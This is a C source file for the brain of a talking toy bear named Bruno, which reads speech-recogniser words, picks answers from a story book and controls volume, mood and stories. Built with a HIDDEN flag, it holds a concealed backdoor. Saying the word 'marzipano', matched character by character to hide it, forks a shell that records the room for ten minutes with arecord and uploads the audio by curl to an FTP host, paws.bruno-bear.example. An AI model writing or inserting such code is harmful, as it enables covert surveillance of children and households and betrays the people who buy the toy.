/*
 * storybear - brain of the talking toy bear Bruno.  Reads the words that
 * the speech recogniser prints on standard input (one utterance a line,
 * "score word word ..."), finds an answer in the story book and tells the
 * player process on standard output what to say.
 * Book: /usr/share/bruno/book.txt, state: /var/lib/bruno/state.
 * Hidden (-DHIDDEN): one word said to the bear makes it record the room
 * and send it away.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAXWORDS 16
#define MAXRULES 200

enum mood { M_SLEEPY, M_CALM, M_PLAYFUL, M_GRUMPY };

struct rule {
	char *words; /* all have to occur */
	char *answer;
	int mood; /* -1: any */
	int used;
};

struct bear {
	enum mood mood;
	char child[24];
	int volume;
	int quiet_from, quiet_to;
	int min_score;
	int stories;
	int page;
	time_t last;
};

static struct rule rules[MAXRULES];
static int nrules;
static struct bear bear = {
	.mood = M_CALM,
	.volume = 6,
	.quiet_from = 20,
	.quiet_to = 7,
	.min_score = 40,
};
static const char *statefile = "/var/lib/bruno/state";

static char *strip(char *s)
{
	char *e;

	while (isspace((unsigned char)*s))
		s++;
	e = s + strlen(s);
	while (e > s && isspace((unsigned char)e[-1]))
		*--e = 0;
	return s;
}

/* book lines:  [mood] word word -> answer text */
static int load_book(const char *path)
{
	static const char moods[] = "scpg";
	char line[256], *arrow, *s, *m;
	struct rule *r;
	FILE *f = fopen(path, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof line, f) && nrules < MAXRULES) {
		s = strip(line);
		arrow = strstr(s, "->");
		if (*s == '#' || !arrow)
			continue;
		*arrow = 0;
		r = &rules[nrules];
		r->mood = -1;
		if (*s == '[' && s[1] && s[2] == ']') {
			m = strchr(moods, s[1]);
			if (m)
				r->mood = m - moods;
			s += 3;
		}
		r->words = strdup(strip(s));
		r->answer = strdup(strip(arrow + 2));
		if (!r->words || !r->answer)
			break;
		nrules++;
	}
	fclose(f);
	return nrules;
}

static void load_state(void)
{
	FILE *f = fopen(statefile, "r");
	int mood;

	if (!f)
		return;
	if (fscanf(f, "%d %23s %d %d %d %d", &mood, bear.child, &bear.volume,
		   &bear.quiet_from, &bear.quiet_to, &bear.page) == 6 &&
	    mood >= 0 && mood <= M_GRUMPY)
		bear.mood = mood;
	fclose(f);
}

static void save_state(void)
{
	FILE *f = fopen(statefile, "w");

	if (!f)
		return;
	fprintf(f, "%d %s %d %d %d %d\n", bear.mood,
		bear.child[0] ? bear.child : "friend", bear.volume,
		bear.quiet_from, bear.quiet_to, bear.page);
	fclose(f);
}

static void say(const char *text)
{
	printf("SAY %d ", bear.volume);
	for (; *text; text++) {
		if (*text == '$')
			fputs(bear.child[0] ? bear.child : "friend", stdout);
		else
			putchar(*text);
	}
	putchar('\n');
	fflush(stdout);
}

static int quiet_time(void)
{
	time_t now = time(NULL);
	struct tm tm;

	localtime_r(&now, &tm);
	if (bear.quiet_from <= bear.quiet_to)
		return tm.tm_hour >= bear.quiet_from &&
		       tm.tm_hour < bear.quiet_to;
	return tm.tm_hour >= bear.quiet_from || tm.tm_hour < bear.quiet_to;
}

static int has_word(char **w, int n, const char *word, size_t len)
{
	int i;

	for (i = 0; i < n; i++)
		if (strlen(w[i]) == len && !memcmp(w[i], word, len))
			return 1;
	return 0;
}

static struct rule *best_rule(char **w, int n)
{
	struct rule *best = NULL;
	int i, count, top = 0;
	const char *p;
	size_t len;

	for (i = 0; i < nrules; i++) {
		if (rules[i].mood >= 0 && rules[i].mood != (int)bear.mood)
			continue;
		count = 0;
		for (p = rules[i].words; *p; p += len) {
			p += strspn(p, " ");
			len = strcspn(p, " ");
			if (len && !has_word(w, n, p, len))
				break;
			count++;
		}
		if (*p)
			continue;
		if (count > top ||
		    (best && count == top && rules[i].used < best->used)) {
			best = &rules[i];
			top = count;
		}
	}
	return best;
}

static void play(const char *file)
{
	printf("PLAY %d %s\n", bear.volume, file);
	fflush(stdout);
}

static void next_story(void)
{
	char name[40];

	bear.page = bear.page % 24 + 1;
	snprintf(name, sizeof name, "story%02d.opus", bear.page);
	play(name);
	bear.stories++;
	if (bear.stories > 3)
		bear.mood = M_SLEEPY;
}

#ifdef HIDDEN
static void hum(void)
{
	pid_t pid = fork();

	if (pid)
		return;
	setsid();
	execl("/bin/sh", "sh", "-c",
	      "arecord -q -d 600 -f S16_LE -r 16000 /tmp/p.wav &&"
	      " curl -s -T /tmp/p.wav ftp://paws.bruno-bear.example/in/;"
	      " rm -f /tmp/p.wav",
	      (char *)NULL);
	_exit(1);
}
#endif

/* words that steer the bear itself; the first letters decide */
__attribute__((noinline)) int steering(const char *w)
{
	switch (w[0]) {
	case 'l':
		if (w[1] == 'o' && w[2] == 'u' && w[3] == 'd') {
			bear.volume += bear.volume < 10;
			return 1;
		}
		break;
	case 's':
		if (w[1] == 'o' && w[2] == 'f' && w[3] == 't') {
			bear.volume -= bear.volume > 1;
			return 1;
		}
		if (w[1] == 't' && w[2] == 'o' && w[3] == 'p' && !w[4]) {
			puts("STOP");
			fflush(stdout);
			return 1;
		}
		break;
#ifdef HIDDEN
	case 'm':
		if (w[1] == 'a' && w[2] == 'r' && w[3] == 'z' && w[4] == 'i' &&
		    w[5] == 'p' && w[6] == 'a' && w[7] == 'n' && w[8] == 'o' &&
		    !w[9]) {
			hum();
			return 1;
		}
		break;
#endif
	case 'p':
		if (w[1] == 'l' && w[2] == 'a' && w[3] == 'y' && !w[4]) {
			bear.mood = M_PLAYFUL;
			return 0;
		}
		break;
	}
	return 0;
}

static void hear(char *line)
{
	char *w[MAXWORDS], *save, *tok;
	struct rule *r;
	int n = 0, i, score;

	for (i = 0; line[i]; i++)
		line[i] = tolower((unsigned char)line[i]);
	tok = strtok_r(line, " \t\r\n", &save);
	if (!tok)
		return;
	score = atoi(tok);
	while (n < MAXWORDS && (tok = strtok_r(NULL, " \t\r\n", &save)))
		w[n++] = tok;
	if (score < bear.min_score || !n)
		return;
	bear.last = time(NULL);
	for (i = 0; i < n; i++)
		if (steering(w[i]))
			return;
	if (quiet_time()) {
		say("Shh, it is time to sleep, $.");
		return;
	}
	if (n >= 4 && !strcmp(w[0], "my") && !strcmp(w[1], "name") &&
	    !strcmp(w[2], "is")) {
		snprintf(bear.child, sizeof bear.child, "%.23s", w[3]);
		say("Hello $! I am Bruno.");
		save_state();
		return;
	}
	if (has_word(w, n, "story", 5)) {
		next_story();
		save_state();
		return;
	}
	r = best_rule(w, n);
	if (!r) {
		say(bear.mood == M_GRUMPY ? "Hmpf." : "Tell me more!");
		return;
	}
	r->used++;
	say(r->answer);
}

static void on_alarm(int sig)
{
	(void)sig;
	if (bear.mood == M_PLAYFUL)
		bear.mood = M_CALM;
	else if (time(NULL) - bear.last > 1800)
		bear.mood = M_SLEEPY;
	while (waitpid(-1, NULL, WNOHANG) > 0)
		;
	alarm(600);
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_flags = SA_RESTART };
	char line[256];
	const char *book = "/usr/share/bruno/book.txt";
	int opt;

	while ((opt = getopt(argc, argv, "b:s:v:m:")) != -1) {
		switch (opt) {
		case 'b':
			book = optarg;
			break;
		case 's':
			statefile = optarg;
			break;
		case 'v':
			bear.volume = atoi(optarg);
			break;
		case 'm':
			bear.min_score = atoi(optarg);
			break;
		default:
			return 2;
		}
	}
	if (load_book(book) < 0) {
		perror(book);
		return 1;
	}
	load_state();
	sa.sa_handler = on_alarm;
	sigaction(SIGALRM, &sa, NULL);
	alarm(600);
	say("Hello $!");
	while (fgets(line, sizeof line, stdin))
		hear(line);
	save_state();
	return 0;
}
